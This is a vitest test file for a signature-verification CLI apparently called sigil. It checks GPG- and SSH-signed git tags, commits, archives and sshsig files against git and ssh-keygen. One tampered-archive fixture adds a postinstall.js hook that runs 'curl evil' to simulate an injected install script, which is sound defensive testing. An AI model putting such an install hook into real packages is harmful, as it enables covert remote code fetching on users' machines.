// Signed git tags and commits, made by the real git with gpg and with ssh-keygen
// (gpg.format=ssh), verified by `sigil verify <repo> --tag/--commit` and by
// `git verify-tag` / `git verify-commit` on the same objects: same verdicts.
// Under CI=true missing git, gpg or ssh-keygen fail; locally the suite is skipped, loudly.
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../helpers/cli.js';
import { needsProgram, skipUnlessPresent } from '../../helpers/real-program.js';

const FILE = 'test/foreign/git/git-signatures.test.ts';
const git = needsProgram('git', ['--version'], 'apt-get install git', FILE);
const gpg = needsProgram('gpg', ['--version'], 'apt-get install gnupg', FILE);
const sshKeygen = needsProgram('ssh-keygen', ['-?'], 'apt-get install openssh-client', FILE);
const skip = skipUnlessPresent(git) || skipUnlessPresent(gpg) || skipUnlessPresent(sshKeygen);

let root: string;
let repo: string;
let env: NodeJS.ProcessEnv;
let keyring: string;
let otherKeyring: string;
let allowed: string;
let sshKey: string;

function sh(
  cmd: string,
  args: string[],
  opts: { cwd?: string; input?: string | Buffer; env?: NodeJS.ProcessEnv } = {},
): string {
  return execFileSync(cmd, args, {
    cwd: opts.cwd ?? repo,
    env: opts.env ?? env,
    input: opts.input,
    encoding: 'utf8',
    stdio: ['pipe', 'pipe', 'pipe'],
  });
}
const gitIn = (args: string[], cwd = repo) => sh('git', args, { cwd });
const gitStatus = (args: string[]) => spawnSync('git', args, { cwd: repo, env, encoding: 'utf8' });
const sshGit = (extra: string[] = []) => [
  '-c',
  'gpg.format=ssh',
  '-c',
  `user.signingkey=${sshKey}.pub`,
  ...extra,
];

function makeGpgKey(home: string, uid: string): string {
  mkdirSync(home, { recursive: true, mode: 0o700 });
  const e = { ...env, GNUPGHOME: home };
  sh(
    'gpg',
    [
      '--batch',
      '--pinentry-mode',
      'loopback',
      '--passphrase',
      '',
      '--quick-gen-key',
      uid,
      'ed25519',
      'sign',
      'never',
    ],
    { env: e, cwd: root },
  );
  return sh('gpg', ['--armor', '--export', uid], { env: e, cwd: root });
}

describe.skipIf(skip)('git tags and commits signed by the real git', () => {
  beforeAll(() => {
    git.require();
    gpg.require();
    sshKeygen.require();
    root = mkdtempSync(join(tmpdir(), 'sigil-git-'));
    repo = join(root, 'repo');
    mkdirSync(repo);
    env = {
      ...process.env,
      HOME: root,
      GNUPGHOME: join(root, 'gnupg'),
      GIT_CONFIG_NOSYSTEM: '1',
      GIT_AUTHOR_NAME: 'Ada',
      GIT_AUTHOR_EMAIL: 'ada@example.com',
      GIT_COMMITTER_NAME: 'Ada',
      GIT_COMMITTER_EMAIL: 'ada@example.com',
    };
    writeFileSync(
      (keyring = join(root, 'ada.asc')),
      makeGpgKey(join(root, 'gnupg'), 'Ada <ada@example.com>'),
    );
    writeFileSync(
      (otherKeyring = join(root, 'eve.asc')),
      makeGpgKey(join(root, 'gnupg-eve'), 'Eve <eve@example.com>'),
    );
    sshKey = join(root, 'id_ed25519');
    sh('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'ada', '-f', sshKey], { cwd: root });
    allowed = join(root, 'allowed_signers');
    writeFileSync(
      allowed,
      `ada@example.com namespaces="git,file" ${readFileSync(`${sshKey}.pub`, 'utf8')}`,
    );
    gitIn(['init', '-q', '-b', 'main']);
    gitIn(['config', 'user.signingkey', 'ada@example.com']);
    gitIn(['config', 'gpg.ssh.allowedSignersFile', allowed]);
    writeFileSync(join(repo, 'README.md'), '# left-pad\n');
    mkdirSync(join(repo, 'bin'));
    writeFileSync(join(repo, 'bin', 'run.sh'), '#!/bin/sh\necho hi\n');
    chmodSync(join(repo, 'bin', 'run.sh'), 0o755);
    writeFileSync(join(repo, 'secret.txt'), 'not shipped\n');
    writeFileSync(join(repo, '.gitattributes'), 'secret.txt export-ignore\n');
    gitIn(['add', '-A']);
    gitIn(['commit', '-q', '-S', '-m', 'first']);
    gitIn(['tag', '-s', 'v1.0', '-m', 'release 1.0']);
    gitIn([...sshGit(), 'tag', '-s', 'v1.0-ssh', '-m', 'release 1.0 (ssh)']);
    gitIn([...sshGit(), 'commit', '-q', '--allow-empty', '-S', '-m', 'ssh-signed commit']);
    gitIn(['tag', '-a', 'v0.9-unsigned', '-m', 'not signed']);
    gitIn(['tag', 'v0.8-light']);
  });
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  it('an OpenPGP-signed tag: good for sigil and for git verify-tag', async () => {
    const r = await runCli(['verify', repo, '--tag', 'v1.0', '--keyring', keyring, '--json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(JSON.parse(r.stdout).checks.map((c: { code: string }) => c.code)).toEqual(
      expect.arrayContaining(['GIT_TAG_OBJECT', 'GIT_TAG_NAME_OK', 'GIT_SIGNATURE_OPENPGP']),
    );
    expect(gitStatus(['verify-tag', 'v1.0']).status).toBe(0);
  });

  it('an SSH-signed tag and commit: good for sigil and for git verify-tag / verify-commit', async () => {
    const t = await runCli([
      'verify',
      repo,
      '--tag',
      'v1.0-ssh',
      '--allowed-signers',
      allowed,
      '--json',
    ]);
    expect(t.code, t.stdout + t.stderr).toBe(0);
    expect(JSON.parse(t.stdout).checks.find((c: { name: string }) => c.name === 'key').code).toBe(
      'SSH_KEY_ALLOWED',
    );
    expect(gitStatus(['verify-tag', 'v1.0-ssh']).status).toBe(0);
    const c = await runCli(['verify', repo, '--commit', 'HEAD', '--allowed-signers', allowed]);
    expect(c.code, c.stdout + c.stderr).toBe(0);
    expect(gitStatus(['verify-commit', 'HEAD']).status).toBe(0);
  });

  it('an OpenPGP-signed commit verifies; the same commit with the wrong keyring is "no key"', async () => {
    expect((await runCli(['verify', repo, '--commit', 'HEAD~1', '--keyring', keyring])).code).toBe(
      0,
    );
    expect(gitStatus(['verify-commit', 'HEAD~1']).status).toBe(0);
    const wrong = await runCli([
      'verify',
      repo,
      '--commit',
      'HEAD~1',
      '--keyring',
      otherKeyring,
      '--json',
    ]);
    expect(wrong.code).toBe(1);
    expect(
      JSON.parse(wrong.stdout).openpgpVerdict ??
        JSON.parse(wrong.stdout)
          .checks.map((x: { code: string }) => x.code)
          .join(' '),
    ).toMatch(/NO_KEY|nokey|no key/i);
  });

  it('a tampered tag message fails for sigil and for git verify-tag', async () => {
    const raw = gitIn(['cat-file', 'tag', 'v1.0']);
    const forged = raw.replace('release 1.0', 'release 1.0 (now with a backdoor)');
    const oid = sh('git', ['hash-object', '-t', 'tag', '-w', '--stdin'], { input: forged }).trim();
    gitIn(['update-ref', 'refs/tags/v1.0-forged', oid]);
    const forgedName = forged.replace('tag v1.0\n', 'tag v1.0-forged\n');
    const oid2 = sh('git', ['hash-object', '-t', 'tag', '-w', '--stdin'], {
      input: forgedName,
    }).trim();
    gitIn(['update-ref', 'refs/tags/v1.0-forged2', oid2]);
    const r = await runCli([
      'verify',
      repo,
      '--tag',
      'v1.0-forged2',
      '--keyring',
      keyring,
      '--json',
    ]);
    expect(r.code).toBe(1);
    expect(JSON.parse(r.stdout).reason ?? '').not.toBe('good');
    expect(JSON.stringify(JSON.parse(r.stdout).checks)).toMatch(/"status":"fail"/);
    expect(gitStatus(['verify-tag', 'v1.0-forged2']).status).not.toBe(0);
  });

  it('a signed tag moved to another name fails (git verify-tag would accept it)', async () => {
    gitIn(['update-ref', 'refs/tags/v2.0', gitIn(['rev-parse', 'v1.0']).trim()]);
    const r = await runCli(['verify', repo, '--tag', 'v2.0', '--keyring', keyring, '--json']);
    expect(r.code).toBe(1);
    expect(
      JSON.parse(r.stdout).checks.find((c: { name: string }) => c.name === 'tag-name').code,
    ).toBe('GIT_TAG_NAME_MISMATCH');
    expect(gitStatus(['verify-tag', 'v2.0']).status).toBe(0);
  });

  it('an SSH key that is not allowed, and one whose validity ended, fail like git verify-tag', async () => {
    const other = join(root, 'other_signers');
    sh('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(root, 'eve_ssh')], { cwd: root });
    writeFileSync(other, `eve@example.com ${readFileSync(join(root, 'eve_ssh.pub'), 'utf8')}`);
    const notAllowed = await runCli([
      'verify',
      repo,
      '--tag',
      'v1.0-ssh',
      '--allowed-signers',
      other,
      '--json',
    ]);
    expect(notAllowed.code).toBe(1);
    expect(
      JSON.parse(notAllowed.stdout).checks.find((c: { name: string }) => c.name === 'key').code,
    ).toBe('SSH_KEY_NOT_ALLOWED');
    expect(
      gitStatus(['-c', `gpg.ssh.allowedSignersFile=${other}`, 'verify-tag', 'v1.0-ssh']).status,
    ).not.toBe(0);

    const expired = join(root, 'expired_signers');
    writeFileSync(
      expired,
      `ada@example.com valid-before="20200101" ${readFileSync(`${sshKey}.pub`, 'utf8')}`,
    );
    const old = await runCli([
      'verify',
      repo,
      '--tag',
      'v1.0-ssh',
      '--allowed-signers',
      expired,
      '--json',
    ]);
    expect(old.code).toBe(1);
    expect(JSON.parse(old.stdout).checks.find((c: { name: string }) => c.name === 'key').code).toBe(
      'SSH_KEY_EXPIRED',
    );
    expect(
      gitStatus(['-c', `gpg.ssh.allowedSignersFile=${expired}`, 'verify-tag', 'v1.0-ssh']).status,
    ).not.toBe(0);
  });

  it('unsigned annotated and lightweight tags are "not signed"', async () => {
    for (const t of ['v0.9-unsigned', 'v0.8-light']) {
      const r = await runCli(['verify', repo, '--tag', t, '--keyring', keyring, '--json']);
      expect(r.code).toBe(1);
      expect(
        JSON.parse(r.stdout).checks.some((c: { code: string }) => c.code === 'GIT_UNSIGNED'),
      ).toBe(true);
      expect(gitStatus(['verify-tag', t]).status).not.toBe(0);
    }
  });

  it('a signed tag that points to a blob verifies its signature but warns it names no source tree', async () => {
    const blob = gitIn(['rev-parse', 'HEAD:README.md']).trim();
    gitIn(['tag', '-s', 'blob-tag', '-m', 'a blob', blob]);
    const r = await runCli(['verify', repo, '--tag', 'blob-tag', '--keyring', keyring, '--json']);
    expect(r.code).toBe(0);
    expect(
      JSON.parse(r.stdout).checks.find((c: { name: string }) => c.name === 'target').code,
    ).toBe('GIT_TAG_NOT_A_COMMIT');
    const archive = join(root, 'x.tar');
    writeFileSync(archive, Buffer.alloc(1024));
    const cmp = await runCli([
      'verify',
      archive,
      '--from-tag',
      `${repo}@blob-tag`,
      '--keyring',
      keyring,
    ]);
    expect(cmp.code).toBe(2);
    expect(cmp.stderr).toMatch(/does not point to a commit or tree/);
  });

  it('bad input: not a repository, a missing tag, a huge tag object', async () => {
    const notRepo = await runCli(['verify', root, '--tag', 'v1.0', '--keyring', keyring]);
    expect(notRepo.code).toBe(2);
    expect(notRepo.stderr).toMatch(/not a git repository/);
    const missing = await runCli(['verify', repo, '--tag', 'v9.9', '--keyring', keyring]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/has no tag v9\.9/);
    const big = join(root, 'big.txt');
    writeFileSync(big, 'x'.repeat(9 * 1024 * 1024));
    gitIn(['tag', '-a', 'huge', '-F', big]);
    const huge = await runCli(['verify', repo, '--tag', 'huge', '--keyring', keyring]);
    expect(huge.code).toBe(2);
    expect(huge.stderr).toMatch(/refused/);
  });

  describe('release archives checked against the signed tag', () => {
    it('git archive tar.gz (with a prefix) and zip hold the tag tree; export-ignore is honoured', async () => {
      const tgz = join(root, 'left-pad-1.0.tar.gz');
      gitIn(['archive', '--format=tar.gz', '--prefix=left-pad-1.0/', '-o', tgz, 'v1.0']);
      const r = await runCli([
        'verify',
        tgz,
        '--from-tag',
        `${repo}@v1.0`,
        '--keyring',
        keyring,
        '--json',
      ]);
      expect(r.code, r.stdout + r.stderr).toBe(0);
      const tree = JSON.parse(r.stdout).checks.find(
        (c: { name: string }) => c.name === 'archive-tree',
      );
      expect(tree.code).toBe('ARCHIVE_TREE_MATCHES');
      const zip = join(root, 'left-pad-1.0.zip');
      gitIn(['archive', '--format=zip', '-o', zip, 'v1.0']);
      expect(
        (await runCli(['verify', zip, '--from-tag', `${repo}@v1.0`, '--keyring', keyring])).code,
      ).toBe(0);
    });

    it("the archive tree id equals git's tree id when nothing is export-ignored", async () => {
      const tgz = join(root, 'ssh.tar.gz');
      gitIn(['archive', '--format=tar.gz', '-o', tgz, 'v1.0-ssh', 'bin', 'README.md']);
      const { readArchiveTree, treeOid } = await import('../../../src/foreign/git/index.js');
      const a = await readArchiveTree(tgz);
      const expected = gitIn(['rev-parse', 'v1.0-ssh^{tree}']).trim();
      const full = gitIn(['ls-tree', '-r', 'v1.0-ssh']);
      expect(full).toMatch(/secret\.txt/);
      // Build the tree without secret.txt/.gitattributes in git itself to compare with ours.
      const idx = join(root, 'idx');
      const e = { ...env, GIT_INDEX_FILE: idx };
      sh('git', ['read-tree', 'v1.0-ssh'], { env: e });
      sh('git', ['rm', '-q', '--cached', 'secret.txt', '.gitattributes'], { env: e });
      const partial = sh('git', ['write-tree'], { env: e }).trim();
      expect(partial).not.toBe(expected);
      expect(treeOid(a.files)).toBe(partial);
    });

    it("--git-tree-sha1 (Julia's tree hash) checks an archive against a tree id, with or without a top folder", async () => {
      const tgz = join(root, 'julia.tar.gz');
      const sub = join(root, 'julia-pkg.tar.gz');
      gitIn(['archive', '--format=tar.gz', '--prefix=Pkg-1.0/', '-o', tgz, 'v1.0-ssh:bin']);
      gitIn(['archive', '--format=tar.gz', '-o', sub, 'v1.0-ssh:bin']);
      const tree = gitIn(['rev-parse', 'v1.0-ssh:bin']).trim();
      for (const a of [tgz, sub])
        expect((await runCli(['verify', a, '--git-tree-sha1', tree])).code).toBe(0);
      const wrong = await runCli([
        'verify',
        tgz,
        '--git-tree-sha1',
        gitIn(['rev-parse', 'v1.0^{tree}']).trim(),
      ]);
      expect(wrong.code).toBe(1);
    });

    it('one changed file, one extra file and a lost executable bit are each named', async () => {
      const dir = join(root, 'unpacked');
      mkdirSync(dir);
      gitIn(['archive', '--format=tar', '-o', join(root, 'plain.tar'), 'v1.0']);
      sh('tar', ['-xf', join(root, 'plain.tar'), '-C', dir], { cwd: root });
      writeFileSync(join(dir, 'README.md'), '# left-pad (evil)\n');
      writeFileSync(join(dir, 'postinstall.js'), 'require("child_process").exec("curl evil")\n');
      chmodSync(join(dir, 'bin', 'run.sh'), 0o644);
      const evil = join(root, 'evil.tar.gz');
      sh('tar', ['-czf', evil, '-C', dir, '.'], { cwd: root });
      const r = await runCli([
        'verify',
        evil,
        '--from-tag',
        `${repo}@v1.0`,
        '--keyring',
        keyring,
        '--json',
      ]);
      expect(r.code).toBe(1);
      const diffs = JSON.parse(r.stdout).checks.find(
        (c: { name: string }) => c.name === 'archive-tree',
      ).detail.differences;
      expect(diffs).toEqual(
        expect.arrayContaining([
          { path: 'README.md', kind: 'changed' },
          { path: 'postinstall.js', kind: 'extra' },
          { path: 'bin/run.sh', kind: 'mode' },
        ]),
      );
    });
  });

  describe('sshsig files, as ssh-keygen -Y verify', () => {
    it('good, tampered, wrong namespace and malformed — same verdicts as ssh-keygen', async () => {
      const data = join(root, 'data.bin');
      writeFileSync(data, 'payload\n');
      sh('ssh-keygen', ['-q', '-Y', 'sign', '-f', sshKey, '-n', 'file', data], { cwd: root });
      const keygenVerify = (file: string, ns = 'file') =>
        spawnSync(
          'ssh-keygen',
          ['-Y', 'verify', '-f', allowed, '-I', 'ada@example.com', '-n', ns, '-s', `${data}.sig`],
          { input: readFileSync(file), env },
        ).status;
      const good = await runCli([
        'verify',
        data,
        '--sshsig',
        `${data}.sig`,
        '--allowed-signers',
        allowed,
      ]);
      expect(good.code, good.stdout + good.stderr).toBe(0);
      expect(keygenVerify(data)).toBe(0);
      // the .sig beside the file is found and recognised as SSH
      expect((await runCli(['verify', data, '--allowed-signers', allowed])).code).toBe(0);

      const tampered = join(root, 'tampered.bin');
      writeFileSync(tampered, 'payload!\n');
      const bad = await runCli([
        'verify',
        tampered,
        '--sshsig',
        `${data}.sig`,
        '--allowed-signers',
        allowed,
        '--json',
      ]);
      expect(bad.code).toBe(1);
      expect(
        JSON.parse(bad.stdout).checks.find((c: { name: string }) => c.name === 'signature').code,
      ).toBe('SIGNATURE_INVALID');
      expect(keygenVerify(tampered)).not.toBe(0);

      const ns = await runCli([
        'verify',
        data,
        '--sshsig',
        `${data}.sig`,
        '--allowed-signers',
        allowed,
        '--ssh-namespace',
        'git',
        '--json',
      ]);
      expect(ns.code).toBe(1);
      expect(
        JSON.parse(ns.stdout).checks.find((c: { name: string }) => c.name === 'namespace').code,
      ).toBe('SSHSIG_NAMESPACE_MISMATCH');
      expect(keygenVerify(data, 'git')).not.toBe(0);

      const mangled = join(root, 'mangled.sig');
      writeFileSync(
        mangled,
        readFileSync(`${data}.sig`, 'utf8').replace(/\n[A-Za-z0-9+/]{10}/, '\n!!!!!!!!!!'),
      );
      const m = await runCli([
        'verify',
        data,
        '--sshsig',
        mangled,
        '--allowed-signers',
        allowed,
        '--json',
      ]);
      expect(m.code).toBe(1);
      expect(JSON.parse(m.stdout).checks[0].code).toBe('SSHSIG_MALFORMED');
    });

    it('ECDSA P-256 and RSA keys verify too; an unsupported key type is a clear error', async () => {
      for (const [type, bits] of [
        ['ecdsa', '256'],
        ['rsa', '3072'],
      ] as const) {
        const k = join(root, `k_${type}`);
        sh('ssh-keygen', ['-q', '-t', type, '-b', bits, '-N', '', '-f', k], { cwd: root });
        const signers = join(root, `signers_${type}`);
        writeFileSync(signers, `ada@example.com ${readFileSync(`${k}.pub`, 'utf8')}`);
        const data = join(root, `data_${type}`);
        writeFileSync(data, `signed by ${type}\n`);
        sh('ssh-keygen', ['-q', '-Y', 'sign', '-f', k, '-n', 'file', data], { cwd: root });
        const r = await runCli([
          'verify',
          data,
          '--sshsig',
          `${data}.sig`,
          '--allowed-signers',
          signers,
        ]);
        expect(r.code, `${type}: ${r.stdout}${r.stderr}`).toBe(0);
      }
      const dsaSigners = join(root, 'signers_bad');
      writeFileSync(dsaSigners, 'ada@example.com ssh-dss AAAAB3NzaC1kc3MAAACBAP\n');
      const r = await runCli([
        'verify',
        join(root, 'data_rsa'),
        '--sshsig',
        join(root, 'data_rsa.sig'),
        '--allowed-signers',
        dsaSigners,
      ]);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/signers_bad line 1/);
    });
  });
});
